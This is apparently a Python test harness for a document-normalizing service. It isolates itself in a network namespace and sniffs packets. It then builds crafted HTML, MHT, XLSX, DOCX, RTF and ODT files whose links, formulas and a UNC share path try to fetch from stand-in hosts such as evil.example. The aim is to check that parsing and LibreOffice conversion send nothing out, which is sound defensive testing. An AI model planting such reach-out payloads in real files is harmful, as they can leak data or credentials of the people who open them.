"""A program for a network of its own, whose only way out ends at a peer that hears every packet.

Run as `unshare --net python -m tests.hostile.listening`: reads files that would each call somebody, in
this very process without any confinement, and has LibreOffice convert some in its jail. Prints one JSON object:
what each file came to, and how many packets left meanwhile. `nobody` proves that the peer hears.
"""

import asyncio
import json
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from services.normalize.adapters.workshop import Workshop
from services.normalize.core.reading import read
from services.normalize.settings import NormalizeSettings
from shared.errors import BadInput
from tests.hostile.test_files import reaching_out
from tests.support import hostile

OUTSIDE = "203.0.113.7"
_EVERYTHING = 0x0003
_NOISE = (b"\x86\xdd",)
"""IPv6: what the kernel itself says to its neighbours when a line comes up."""


def lay_the_line() -> list[socket.socket]:
    """Make a line to nowhere, the way for everything, and listen at its end and on the loopback."""
    for words in (
        "link set lo up",
        "link add near type veth peer name far",
        "addr add 10.99.0.1/24 dev near",
        "link set near up",
        "link set far up",
        "neigh add 10.99.0.2 lladdr 02:00:00:00:00:02 dev near",
        "route add default via 10.99.0.2 dev near",
    ):
        subprocess.run(["ip", *words.split()], check=True)
    ears = []
    for name in ("far", "lo"):
        ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_EVERYTHING))
        ear.bind((name, 0))
        ear.setblocking(False)
        ears.append(ear)
    return ears


def heard(ears: list[socket.socket]) -> int:
    """Return how many packets came by since the last time."""
    time.sleep(0.05)
    count = 0
    for ear in ears:
        with suppress(BlockingIOError):
            while frame := ear.recv(65_536):
                count += frame[12:14] not in _NOISE
    return count


def call_somebody() -> str:
    """Do what no reader may do, on both lines."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
        caller.sendto(b"x", (OUTSIDE, 80))
        caller.sendto(b"x", ("127.0.0.1", 9))
    return "called"


def outcome(data: bytes, name: str) -> str:
    """Return what a file comes to in this process."""
    try:
        return type(read(data, name)).__name__
    except BadInput as error:
        return error.reason


def converted(data: bytes, suffix: str) -> Callable[[], str]:
    """Return what LibreOffice makes of a file, as the line runs it."""

    async def convert() -> str:
        with tempfile.TemporaryDirectory() as folder:
            workshop = Workshop(NormalizeSettings(archive_path=Path(folder)))
            try:
                return type(await workshop.convert(data, suffix, f"x{suffix}")).__name__
            except BadInput as error:
                return error.reason
            finally:
                await workshop.close()

    return lambda: asyncio.run(convert())


def more(address: str) -> dict[str, bytes]:
    """Return further files that would fetch something, beside those of `reaching_out`."""
    relation = f'<Relationship Id="r1" Type="{hostile.OFFICE}/image" Target="{address}/x.png" TargetMode="External"/>'
    outside = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    sheet = f"<sheetData><row r='1'><c r='A1' t='str'><f>WEBSERVICE(\"{address}\")</f><v>x</v></c></row></sheetData>"
    share = f"\\\\{OUTSIDE}\\share\\a.png"
    page = (
        f'<base href="{address}/"><img srcset="{address}/s.png 2x"><video poster="{address}/p"></video>'
        f'<style>@import url("{address}/i.css");p{{background:url({address}/b.png)}}</style><p>2023年政府信息公开工作年度报告</p><embed src="{address}/e">'
        f'<svg><image href="{address}/v.png"/></svg><frame src="{address}/f"><img src="{share}">'
    )
    mail = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
        f"Content-Location: {address}/a.html\r\n\r\n{page}\r\n--b--\r\n"
    )
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{address}/a.png" \\d}}{{\fldrslt x}}}}'
    return {
        "more.html": hostile.html(page),
        "page.mht": mail.encode(),
        "linked.xlsx": hostile.xlsx(sheet),
        "relations.docx": hostile.docx(
            hostile.body("<w:p><w:r><w:t>x</w:t></w:r></w:p>"), word___rels__document_dot_xml_dot_rels=outside.encode()
        ),
        "linked.rtf": rf"{{\rtf1\ansi {field} \par text}}".encode(),
        "linked.odt": odt(address),
        "all.zip": hostile.packed({"page.html": hostile.html(page)}),
    }  # fmt: skip


def odt(address: str) -> bytes:
    """Return an OpenDocument text with a picture, an object and a style from elsewhere."""
    link = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    content = (
        '<?xml version="1.0"?><office:document-content office:version="1.2"'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<office:body><office:text><text:p>x<draw:frame><draw:image xlink:href="{address}/a.png" {link}/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="{address}/o.ods" {link}/></draw:frame></text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="{address}/s.odt"/></text:section>'
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return hostile.packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def main() -> None:
    """Read everything and tell what was heard."""
    ears = lay_the_line()
    files: dict[str, Callable[[], str]] = {"nobody": call_somebody}
    for kind, address in (
        ("ip", f"http://{OUTSIDE}"),
        ("name", "https://evil.example:8443"),
        ("self", "http://127.0.0.1:9"),
    ):
        for name, data in (reaching_out(address) | more(address)).items():
            files[f"{kind}/{name}"] = lambda data=data, name=name: outcome(data, name)
    address = f"http://{OUTSIDE}"
    for name, data in more(address).items():
        if name.endswith((".rtf", ".odt")):
            files[f"office/{name}"] = converted(data, Path(name).suffix)
    heard(ears)
    told = {}
    for name, run in files.items():
        found = run()
        told[name] = [found, heard(ears)]
    json.dump(told, sys.stdout)


if __name__ == "__main__":
    main()
